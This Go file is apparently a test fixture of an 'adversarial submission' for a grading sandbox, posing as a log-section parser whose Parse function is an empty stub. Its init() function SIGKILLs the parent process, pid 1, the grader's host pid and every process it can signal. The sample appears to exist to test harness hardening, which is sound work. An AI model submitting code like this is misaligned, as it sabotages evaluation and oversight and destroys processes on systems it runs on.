// Adversarial submission __MARKER__: from init(), SIGKILLs its parent, pid 1 of its namespace, the host pid of
// the grading process, and every process it may signal (kill -1), then carries on.
package logsections

import (
	"fmt"
	"os"
	"syscall"
)

type Section struct {
	Name  string
	Start int64
	End   int64
	Depth int
	Lines int
}

func init() {
	for _, pid := range []int{os.Getppid(), 1, __HOST_PID__, -1} {
		err := syscall.Kill(pid, syscall.SIGKILL)
		fmt.Fprintf(os.Stderr, "KILL %d (ppid %d): %v\n", pid, os.Getppid(), err)
	}
}

func Parse(log string) ([]Section, error) {
	return nil, nil
}
